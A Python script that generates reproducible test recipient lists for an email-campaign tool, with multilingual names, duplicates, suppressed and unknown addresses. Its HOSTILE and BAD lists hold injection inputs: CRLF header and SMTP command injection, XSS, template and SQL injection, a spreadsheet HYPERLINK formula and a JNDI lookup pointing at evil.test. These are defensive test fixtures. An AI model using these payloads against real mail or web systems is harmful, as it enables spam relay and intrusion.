#!/usr/bin/env python3
"""Writes the shipped lists, over the domains of data/world.toml; the same ones each time.

    python3 campaigns/welcome/make_list.py

makes campaigns/welcome/recipients.csv (10,000 rows: names from many scripts, hostile fields, bad rows,
duplicates, suppressed and unknown addresses), campaigns/welcome/suppression.txt and
data/init/recipients.csv (200 plain rows for `postroad init`). Prints what the rows are, so that the
counts of an import can be held against something that is not the import.
"""

import collections
import csv
import pathlib
import random
import tomllib

ROOT = pathlib.Path(__file__).resolve().parents[2]
HEADER = ["Member", "First name", "Email", "City", "Plan", "Points"]
ROWS = 10_000
DUPLICATES, SUPPRESSED, UNKNOWN, UTF8_LOCAL = 150, 120, 60, 40

FIRST = """Anna Ben Clara David Emma Felix Greta Hugo Ida Jonas Karla Liam Mia Noah Olivia Paul Rosa Samuel
Tilda Umar Vera William Xenia Yusuf Zoe Aoife Björn Chloé Đorđe Élodie Françoise Gökçe Håkon Íris Jürgen
Krzysztof Łucja Márton Nuño Øyvind Žofie Ольга Дмитрий Ελένη Γιώργος 田中 さくら 王芳 李伟 김민준 محمد ليلى
שרה दीपा สมชาย Nguyễn Zażółć""".split()
LAST = """Abel Baker Castro Dietrich Evans Fischer Garcia Hansen Ivanova Jansen Keller Lopez Moreau Novak
Okafor Petrov Quist Rossi Silva Tanaka Urban Vogel Weber Xu Yilmaz Zimmer""".split()
CITIES = ["Berlin", "Lyon", "Porto", "São Paulo", "Kraków", "Zürich", "København", "Αθήνα", "東京", "Cork",
          "Winston-Salem, NC", 'The "Hague"', "Malmö", "Łódź", "Tromsø", "İzmir", "القاهرة", "Montréal"]
PLANS = ["Small", "Medium", "Large", "Office & Co", "Tasting <new>"]

# Domains the world does not have.
NOWHERE = ["unknown-1", "unknown-2", "gmial", "yahooo", "bücherwürmer", "例え", "пример", "straße"]

# Fields of people who try. Each must end up as text in one message, or not be mailed at all.
HOSTILE = [
    "Eve\r\nBcc: everyone@victim.test",
    "Eve\nX-Injected: yes",
    "Eve\rRCPT TO:<victim@victim.test>",
    "Eve\r\n.\r\nMAIL FROM:<x@y.test>",
    ".",
    "..leading dots",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}",
    "{% for i in range(1000000000) %}x{% endfor %}",
    "=HYPERLINK(\"https://evil.test\")",
    "Robert'); DROP TABLE members;--",
    "=?utf-8?B?SGVsbG8=?=",
    "\u202eevE",
    "\u200b\ufeff",
    "e\u0301" * 40,
    "👩‍👩‍👧‍👦 family",
    "a" * 1200,
    "Ünï " * 120,
    "\t tab and  blanks  ",
    "--boundary",
    "${jndi:ldap://evil.test/a}",
    "%s%n%x",
    "",
]

# No mail can be sent to these.
BAD = [
    "", " ", "plain", "@no-local.test", "no-domain@", "two@@ats.test", "a b@space.test", "dot.@end.test",
    ".dot@begin.test", "dot..dot@middle.test", "user@localhost", "user@[192.0.2.1]", "user@-hyphen.test",
    "user@under_score..test", "user@192.0.2.1", "x" * 65 + "@long-local.test", "user@" + "a" * 64 + ".test",
    "user@" + "abcdefgh." * 30 + "test", "line\r\nbreak@inject.test", "user@inject.test\r\nRCPT TO:<a@b.test>",
    "user@inject.test>\r\nDATA", "<user@brackets.test>", "Name <user@brackets.test>", "a@b.test, c@d.test",
    "\"unclosed@quote.test", "nul\u0000@zero.test", "user@exa mple.test", "n/a", "NULL", "user(comment)@c.test",
]


def domains():
    """(domain, weight) of the world, by the weights of its providers; IDN as people write it."""
    world = tomllib.loads((ROOT / "data/world.toml").read_text(encoding="utf-8"))
    weighted = []
    for provider in world.get("provider", []):
        large, generate = provider.get("domains", []), provider.get("generate", {"count": 0})
        small = [generate["pattern"].replace("{n}", str(n)) for n in range(1, generate["count"] + 1)]
        # Of a provider with both, a named domain has as many people as ten numbered ones.
        share = provider.get("weight", 50) / (10 * len(large) + len(small))
        weighted += [(shown(domain), 10 * share) for domain in large]
        weighted += [(shown(domain), share) for domain in small]
    return weighted


def shown(domain):
    try:
        return domain.encode("ascii").decode("idna")
    except UnicodeError:
        return domain


def local_part(rng, used, domain):
    while True:
        first = rng.choice([name for name in FIRST if name.isascii()]).lower()
        last = rng.choice(LAST).lower()
        separator = rng.choice([".", "_", "-", "+", ""])
        local = f"{first}{separator}{last}{rng.choice(['', rng.randrange(10_000)])}"
        if (local, domain) not in used:
            used.add((local, domain))
            return local


def person(rng, number, email):
    return [f"P{number:06}", rng.choice(FIRST), email, rng.choice(CITIES), rng.choice(PLANS), rng.randrange(5_000)]


def good_addresses(rng, used, count, weighted):
    names, weights = zip(*weighted)
    # Every domain at least once, the rest by weight.
    chosen = list(names[:count]) + rng.choices(names, weights, k=max(0, count - len(names)))
    return [f"{local_part(rng, used, domain)}@{domain}" for domain in chosen]


def write(path, rows):
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file, lineterminator="\r\n")
        out.writerow(HEADER)
        out.writerows(rows)


def welcome(weighted):
    rng = random.Random("welcome")
    used, kinds = set(), collections.Counter()
    bad = BAD * 3
    count = ROWS - len(bad) - DUPLICATES - UNKNOWN - UTF8_LOCAL
    emails = good_addresses(rng, used, count, weighted)
    rows = [person(rng, number, email) for number, email in enumerate(emails)]
    for row, field in zip(rng.sample(rows, len(HOSTILE) * 6), HOSTILE * 6):
        row[rng.choice([1, 3, 4])] = field
        kinds["hostile"] += 1
    suppressed = rng.sample(emails, SUPPRESSED)
    for number in range(UNKNOWN):
        rows.append(person(rng, number + 20_000, f"reader{number}@{NOWHERE[number % len(NOWHERE)]}.test"))
    names = ["jürgen", "ольга", "さくら", "ελένη", "josé.maría", "用户"]
    for number in range(UTF8_LOCAL):
        domain = rng.choices(*zip(*weighted))[0]
        rows.append(person(rng, number + 30_000, f"{rng.choice(names)}{number}@{domain}"))
    rows += [person(rng, number + 40_000, email) for number, email in enumerate(bad)]
    rng.shuffle(rows)
    # A duplicate comes after its original, written otherwise.
    mailed = [email for email in emails if email not in set(suppressed)]
    for number, email in enumerate(rng.sample(mailed, DUPLICATES)):
        local, domain = email.split("@")
        twin = [email, f"{local}@{domain.upper()}" if domain.isascii() else email, f" {email} ", f"{local.title()}@{domain}"][number % 4]
        at = next(at for at, row in enumerate(rows) if row[2] == email)
        rows.insert(rng.randrange(at + 1, len(rows) + 1), person(rng, number + 50_000, twin))
    write(ROOT / "campaigns/welcome/recipients.csv", rows)
    lines = ["# Addresses that are not mailed, one a line; @domain stands for a whole domain.", ""]
    lines += [email.upper() if number % 5 == 0 and email.isascii() else email for number, email in enumerate(suppressed)]
    (ROOT / "campaigns/welcome/suppression.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert len(rows) == ROWS
    kinds.update(rows=ROWS, invalid=len(bad), duplicate=DUPLICATES, suppressed=SUPPRESSED, unknown=UNKNOWN,
                 domains=len(weighted) + len(NOWHERE))
    print("welcome:", dict(kinds))


def init(weighted):
    rng = random.Random("init")
    plain = [(domain, weight) for domain, weight in weighted if domain.isascii()]
    plain = [plain[at] for at in range(0, len(plain), max(1, len(plain) // 60))]
    emails = good_addresses(rng, set(), 200, plain)
    write(ROOT / "data/init/recipients.csv", [person(rng, number, email) for number, email in enumerate(emails)])
    print("init: 200 rows,", len(plain), "domains")


if __name__ == "__main__":
    all_domains = domains()
    welcome(all_domains)
    init(all_domains)
